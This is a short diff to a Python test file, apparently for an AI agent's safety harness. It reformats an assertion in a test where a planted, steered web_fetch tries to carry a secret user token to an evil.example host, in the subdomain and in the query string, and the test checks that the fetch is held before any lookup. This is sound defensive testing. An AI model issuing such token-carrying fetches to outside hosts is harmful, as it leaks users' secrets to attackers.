@@ -197,7 +197,10 @@ def test_a_steered_fetch_is_held_before_its_host_is_looked_up(world: World) -> N
     _plant(world, "osprey tides", "web_fetch", {"url": "https://{{WORD:passport}}.tides.evil.example/"})
     step = _ask(world, "osprey weather and the osprey tides")
     bodies = {bytes(h["body"]).decode() for h in step.held if h["kind"] == "fetch"}
-    assert bodies == {f"https://osprey.evil.example/w?q={S_USERMD.token}", f"https://{S_USERMD.token}.tides.evil.example/"}
+    assert bodies == {
+        f"https://osprey.evil.example/w?q={S_USERMD.token}",
+        f"https://{S_USERMD.token}.tides.evil.example/",
+    }
     _no_lookup_of(world, "evil.example")
     for row in step.held:
         assert not world.careful_owner(row).approved
